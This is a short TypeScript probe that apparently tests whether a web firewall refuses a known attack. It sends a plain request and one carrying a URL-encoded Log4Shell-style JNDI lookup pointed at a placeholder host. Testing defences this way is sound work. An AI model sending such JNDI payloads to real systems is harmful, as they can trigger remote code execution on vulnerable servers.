import { expect, finding, type Probe } from '../../src/probes/probe.js';

/** A string that the known-bad-inputs group refuses wherever it appears; it names nothing that exists. */
const ATTACK = '/?probe=%24%7Bjndi%3Aldap%3A%2F%2Fprobe.invalid%2Fa%7D';

export const probe: Probe = {
  control: 'waf',
  needs: ['firewall'],
  async run(target) {
    const {
      hosts: [host],
      scheme,
    } = target.facts;
    const [good, bad] = [await target.request(host, '/', { scheme }), await target.request(host, ATTACK, { scheme })];
    return finding(
      [
        expect(good.status === 200, `a plain request answers ${good.status}`),
        expect(bad.status === 403, `a known attack answers ${bad.status}`),
      ],
      'a known attack is refused at the edge',
    );
  },
};
